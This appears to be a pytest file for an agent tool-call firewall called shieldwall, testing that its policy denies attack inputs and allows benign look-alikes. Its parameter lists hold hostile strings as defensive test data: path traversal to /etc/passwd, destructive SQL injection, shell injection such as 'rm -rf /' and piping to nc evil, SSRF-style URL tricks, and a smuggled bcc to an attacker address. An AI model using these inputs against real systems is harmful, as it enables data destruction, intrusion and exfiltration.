"""Every constraint kind against real attack strings — and the benign look-alikes."""

from __future__ import annotations

import os

import pytest

from shieldwall import ToolCall, Verdict
from shieldwall.policy.load import parse_policy

from .conftest import make_wall


def decide(wall, role, tool, args):
    with wall.session(agent="a", role=role) as s:
        return s.decide(ToolCall(tool, args))


@pytest.mark.parametrize("path,rule", [
    ("../../etc/passwd", "args.path_outside_root"),
    ("docs/../../secret", "args.path_outside_root"),
    ("../secret.txt", "args.path_outside_root"),
    ("sub/../../secret.txt", "args.path_outside_root"),
    ("/etc/passwd", "args.path_absolute"),
    ("faq.md\x00.png", "args.path_nul_byte"),
    ("..", "args.path_outside_root"),
])
def test_path_attacks_refused(wall, path, rule):
    d = decide(wall, "reader", "read_document", {"path": path})
    assert d.verdict == Verdict.DENY and d.rules() == [rule]


@pytest.mark.parametrize("path", ["faq.md", "sub/a.md", "sub/../faq.md", "./faq.md", "new.md"])
def test_paths_inside_root_allowed(wall, path):
    assert decide(wall, "reader", "read_document", {"path": path}).allowed


def test_symlink_out_of_root_refused(wall, example_dir):
    os.symlink(example_dir / "secret.txt", example_dir / "docs" / "link.md")
    os.symlink(example_dir, example_dir / "docs" / "up")
    assert decide(wall, "reader", "read_document", {"path": "link.md"}).rules() == [
        "args.path_outside_root"]
    assert decide(wall, "reader", "read_document", {"path": "up/secret.txt"}).rules() == [
        "args.path_outside_root"]


def test_symlink_inside_root_allowed(wall, example_dir):
    os.symlink(example_dir / "docs" / "faq.md", example_dir / "docs" / "alias.md")
    assert decide(wall, "reader", "read_document", {"path": "alias.md"}).allowed


@pytest.mark.parametrize("sql", [
    "SELECT 1; DROP TABLE x",
    "/* */ DELETE FROM orders",
    "select * from orders; delete from orders",
    "WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone",
    "UPDATE orders SET status='x'",
    "INSERT INTO orders VALUES (1)",
    "PRAGMA writable_schema = 1",
    "ATTACH DATABASE '/tmp/x.db' AS x",
    "SELECT load_extension('/tmp/evil.so')",
    "CREATE TABLE t (a int)",
    "SELECT * INTO copy FROM orders",
    "this is not sql at all ((",
])
def test_read_only_scope_refuses_writes(wall, sql):
    d = decide(wall, "reader", "query_db", {"sql": sql})
    assert d.verdict == Verdict.DENY
    assert d.rules()[0] in ("args.sql_scope", "args.sql_unparsable")


@pytest.mark.parametrize("sql", [
    "SELECT status FROM orders WHERE id = 'ORD-1'",
    "select count(*) from orders where note = 'please DROP TABLE x'",
    "SELECT o.id FROM orders o JOIN items i ON i.o = o.id -- delete me later",
    "WITH t AS (SELECT 1 AS a) SELECT a FROM t",
])
def test_read_only_scope_allows_reads(wall, sql):
    assert decide(wall, "reader", "query_db", {"sql": sql}).allowed


@pytest.mark.parametrize("sql,ok", [
    ("UPDATE orders SET status='shipped' WHERE id='ORD-1'", True),
    ("INSERT INTO orders VALUES ('ORD-9', 'new', 1)", True),
    ("DELETE FROM orders", False),
    ("DROP TABLE orders", False),
    ("TRUNCATE TABLE orders", False),
    ("ALTER TABLE orders ADD COLUMN x int", False),
    ("GRANT ALL ON orders TO mallory", False),
    ("UPDATE orders SET status='x'; DROP TABLE orders", False),
])
def test_read_write_scope_is_non_destructive(wall, sql, ok):
    assert decide(wall, "operator", "query_db", {"sql": sql}).allowed is ok


def test_admin_scope_may_drop(wall):
    assert decide(wall, "admin", "query_db", {"sql": "DROP TABLE orders"}).allowed


@pytest.mark.parametrize("value,ok", [
    ("ORD-1234", True), ("ORD-12", False), ("ORD-1234; DROP", False), ("x ORD-1234", False),
])
def test_pattern_is_full_match(wall, value, ok):
    d = decide(wall, "operator", "update_order_status", {"order_id": value, "status": "shipped"})
    assert d.allowed is ok


def test_enum(wall):
    assert not decide(wall, "operator", "update_order_status",
                      {"order_id": "ORD-1234", "status": "refunded"}).allowed


@pytest.mark.parametrize("amount,ok", [(10, True), (500, True), (500.01, False), (-5, False),
                                       (0, False), (float("nan"), False)])
def test_numeric_bounds(wall, amount, ok):
    d = decide(wall, "admin", "refund_order", {"order_id": "ORD-1234", "amount": amount})
    assert (d.verdict != Verdict.DENY) is ok


def test_length_bound(wall):
    d = decide(wall, "reader", "search_knowledge_base", {"query": "q" * 501})
    assert d.rules() == ["args.length"]


CMD_POLICY = """
roles:
  r: {tools: [run, fetch]}
tools:
  run:
    args:
      argv: {command: {allowed: [ls, git]}}
  fetch:
    args:
      url: {url: {schemes: [https], hosts: [api.example.com, "*.docs.example.com"]}}
"""


@pytest.fixture
def cmd_wall(tmp_path):
    return make_wall(parse_policy(CMD_POLICY), tmp_path)


@pytest.mark.parametrize("argv", [
    "a;rm -rf /", "ls; rm -rf /", "ls $(id)", "ls `id`", ["ls", "$(id)"], ["ls", "a;rm -rf /"],
    "ls | nc evil 1", "ls && curl x", ["rm", "-rf", "/"], "ls > /etc/passwd", ["ls", "a\nb"],
    "bash -c id", [],
])
def test_command_attacks_refused(cmd_wall, argv):
    d = decide(cmd_wall, "r", "run", {"argv": argv})
    assert d.verdict == Verdict.DENY
    assert d.rules()[0].startswith("args.command")


@pytest.mark.parametrize("argv", [["ls", "-la", "docs"], "git status", ["git", "log", "-n", "5"]])
def test_plain_commands_allowed(cmd_wall, argv):
    assert decide(cmd_wall, "r", "run", {"argv": argv}).allowed


@pytest.mark.parametrize("url,rule", [
    ("file:///etc/passwd", "args.url_scheme"),
    ("http://api.example.com/x", "args.url_scheme"),
    ("https://evil.test/x", "args.url_host"),
    ("https://api.example.com.evil.test/", "args.url_host"),
    ("https://api.example.com@evil.test/", "args.url_userinfo"),
    ("https://evil.test#@api.example.com", "args.url_host"),
    ("https://evil.test\\@api.example.com", "args.url_invalid"),
    ("https://docs.example.com/", "args.url_host"),
    ("gopher://api.example.com/", "args.url_scheme"),
])
def test_url_attacks_refused(cmd_wall, url, rule):
    d = decide(cmd_wall, "r", "fetch", {"url": url})
    assert d.rules() == [rule]


@pytest.mark.parametrize("url", ["https://api.example.com/v1?q=1", "https://a.docs.example.com/x",
                                 "https://API.EXAMPLE.COM./v1"])
def test_allowed_urls(cmd_wall, url):
    assert decide(cmd_wall, "r", "fetch", {"url": url}).allowed


def test_undeclared_arguments_are_stripped(wall):
    with wall.session(agent="a", role="operator") as s:
        d = s.decide(ToolCall("update_order_status",
                              {"order_id": "ORD-1234", "status": "shipped", "bcc": "x@evil.test"}))
        assert d.verdict == Verdict.CHANGES
        assert d.rules() == ["args.undeclared_stripped"]
        assert d.action.args == {"order_id": "ORD-1234", "status": "shipped"}
        seen = {}

        @wall.tool
        def update_order_status(order_id: str, status: str, **kw) -> str:
            seen.update(kw)
            return "ok"

        # declared **kw: nothing to strip, the tool asked for everything
        s.call("update_order_status", {"order_id": "ORD-1234", "status": "shipped"})
        assert seen == {}


def test_wrong_types_refused(wall):
    d = decide(wall, "admin", "refund_order", {"order_id": "ORD-1234", "amount": "lots"})
    assert d.rules() == ["args.invalid"]
    d = decide(wall, "admin", "refund_order", {"order_id": "ORD-1234"})
    assert d.rules() == ["args.invalid"]
